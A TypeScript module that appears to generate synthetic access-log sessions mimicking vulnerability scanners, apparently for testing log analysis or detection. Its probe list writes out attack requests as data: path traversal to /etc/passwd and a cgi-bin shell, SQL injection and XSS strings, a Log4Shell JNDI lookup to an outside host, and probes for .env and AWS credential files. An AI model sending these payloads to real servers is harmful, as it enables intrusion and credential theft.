/**
 * Vulnerability scanners: a quick burst of probes for admin panels, leaked config and backup
 * files, path traversal, SQL injection and known exploit paths. Nearly everything is 404; the
 * server refuses some (403, 400 for traversal); tool User-Agents or none at all.
 */
import { SessionBuilder, type SessionContext, type SessionPlan } from '../session.js';
import { scannerUserAgent } from '../user-agents.js';

interface Probe {
  method: string;
  path: string;
  /** What this server answers, when not the usual 404. */
  status?: number;
}

/** Probes as they appear in request lines: anything unsafe is percent-encoded, as clients send it. */
const PROBES: readonly Probe[] = [
  { method: 'GET', path: '/wp-admin/' },
  { method: 'GET', path: '/wp-login.php' },
  { method: 'POST', path: '/xmlrpc.php' },
  { method: 'GET', path: '/wp-content/plugins/revslider/temp/update_extract/revslider/' },
  { method: 'GET', path: '/wp-includes/wlwmanifest.xml' },
  { method: 'GET', path: '/.env' },
  { method: 'GET', path: '/.env.production' },
  { method: 'GET', path: '/.env.bak' },
  { method: 'GET', path: '/.git/config', status: 403 },
  { method: 'GET', path: '/.git/HEAD', status: 403 },
  { method: 'GET', path: '/.svn/entries' },
  { method: 'GET', path: '/.DS_Store' },
  { method: 'GET', path: '/.aws/credentials' },
  { method: 'GET', path: '/.htaccess', status: 403 },
  { method: 'GET', path: '/phpmyadmin/' },
  { method: 'GET', path: '/pma/' },
  { method: 'GET', path: '/phpMyAdmin/index.php' },
  { method: 'GET', path: '/admin' },
  { method: 'GET', path: '/administrator/' },
  { method: 'GET', path: '/admin/config.php' },
  { method: 'GET', path: '/server-status', status: 403 },
  { method: 'GET', path: '/config.php.bak' },
  { method: 'GET', path: '/config.json' },
  { method: 'GET', path: '/backup.zip' },
  { method: 'GET', path: '/backup.sql' },
  { method: 'GET', path: '/db.sql' },
  { method: 'GET', path: '/dump.sql.gz' },
  { method: 'GET', path: '/site.tar.gz' },
  { method: 'GET', path: '/info.php' },
  { method: 'GET', path: '/phpinfo.php' },
  { method: 'GET', path: '/test.php' },
  { method: 'GET', path: '/shell.php' },
  { method: 'GET', path: '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php' },
  { method: 'POST', path: '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', status: 400 },
  { method: 'GET', path: '/../../../../etc/passwd', status: 400 },
  { method: 'GET', path: '/..%2f..%2f..%2f..%2fetc%2fpasswd', status: 400 },
  { method: 'GET', path: '/static/..%2f..%2f..%2f..%2fetc/passwd', status: 400 },
  { method: 'GET', path: '/index.php?page=....//....//....//etc/passwd' },
  { method: 'GET', path: '/?file=../../../../windows/win.ini', status: 200 },
  { method: 'GET', path: '/search?q=%27%20UNION%20SELECT%20NULL,NULL--%20-', status: 200 },
  { method: 'GET', path: '/products?id=1%27%20OR%20%271%27%3D%271' },
  { method: 'GET', path: '/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E', status: 200 },
  { method: 'GET', path: '/?x=${jndi:ldap://198.51.100.23:1389/a}', status: 200 },
  { method: 'GET', path: '/actuator/env' },
  { method: 'GET', path: '/actuator/health' },
  { method: 'GET', path: '/api/v1/users' },
  { method: 'GET', path: '/console/' },
  { method: 'GET', path: '/solr/admin/info/system' },
  { method: 'GET', path: '/jenkins/login' },
  { method: 'GET', path: '/manager/html' },
  { method: 'GET', path: '/owa/auth/logon.aspx' },
  { method: 'GET', path: '/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession', status: 400 },
  { method: 'GET', path: '/boaform/admin/formLogin' },
  { method: 'POST', path: '/GponForm/diag_Form?images/' },
  { method: 'GET', path: '/HNAP1/' },
  { method: 'GET', path: '/cgi-bin/luci/;stok=/locale' },
  { method: 'GET', path: '/telescope/requests' },
  { method: 'GET', path: '/_profiler/phpinfo' },
  { method: 'GET', path: '/debug/default/view?panel=config' },
  { method: 'GET', path: '/.well-known/security.txt' },
  { method: 'HEAD', path: '/', status: 200 },
];

export function generateVulnScanner(ctx: SessionContext): SessionPlan {
  const { rng, site } = ctx;
  const userAgent = scannerUserAgent(rng);
  const clientIp = ctx.ips.allocate(rng.chance(0.85) ? 'datacenter' : 'residential', rng);
  const b = new SessionBuilder(ctx, rng.chance(0.9) ? 'HTTP/1.1' : 'HTTP/1.0');

  const interval = rng.range(30, 400);
  let t = ctx.start;
  const next = (): number => rng.exponential(interval);
  if (rng.chance(0.5)) {
    b.add(t, 'GET', '/', 200, site.home.bytes, null);
    t += next();
  }
  if (rng.chance(0.4)) {
    b.add(t, 'GET', site.robots.path, 200, site.robots.bytes, null);
    t += next();
  }

  // Wordlists are long: the built-in probes, then guesses at backups named after the site.
  const guesses: Probe[] = [
    ...rng.shuffled(PROBES),
    ...['.zip', '.tar.gz', '.sql', '.bak', '.old', '.rar'].map((ext) => ({ method: 'GET', path: `/${site.customer}${ext}` })),
    ...Array.from({ length: 200 }, () => ({ method: 'GET', path: `/${rng.pick(['admin', 'backup', 'old', 'test', 'dev', 'api', 'tmp', 'new', 'bak'])}${rng.pick(['', '1', '2', '_old', '-backup', '.php', '.zip'])}` })),
  ];
  const wanted = rng.int(25, 250);
  for (let i = 0; i < wanted && i < guesses.length && !b.done(t); i++) {
    const probe = guesses[i];
    if (!probe) break;
    const method = probe.method === 'GET' && rng.chance(0.08) ? 'HEAD' : probe.method;
    const status = probe.status ?? 404;
    const bytes = method === 'HEAD' ? 0 : status === 200 ? site.home.bytes : status === 400 ? rng.int(220, 330) : site.notFoundBytes;
    b.add(t, method, probe.path, status, bytes, null);
    t += next();
  }
  return b.finish('vuln_scanner', clientIp, userAgent);
}
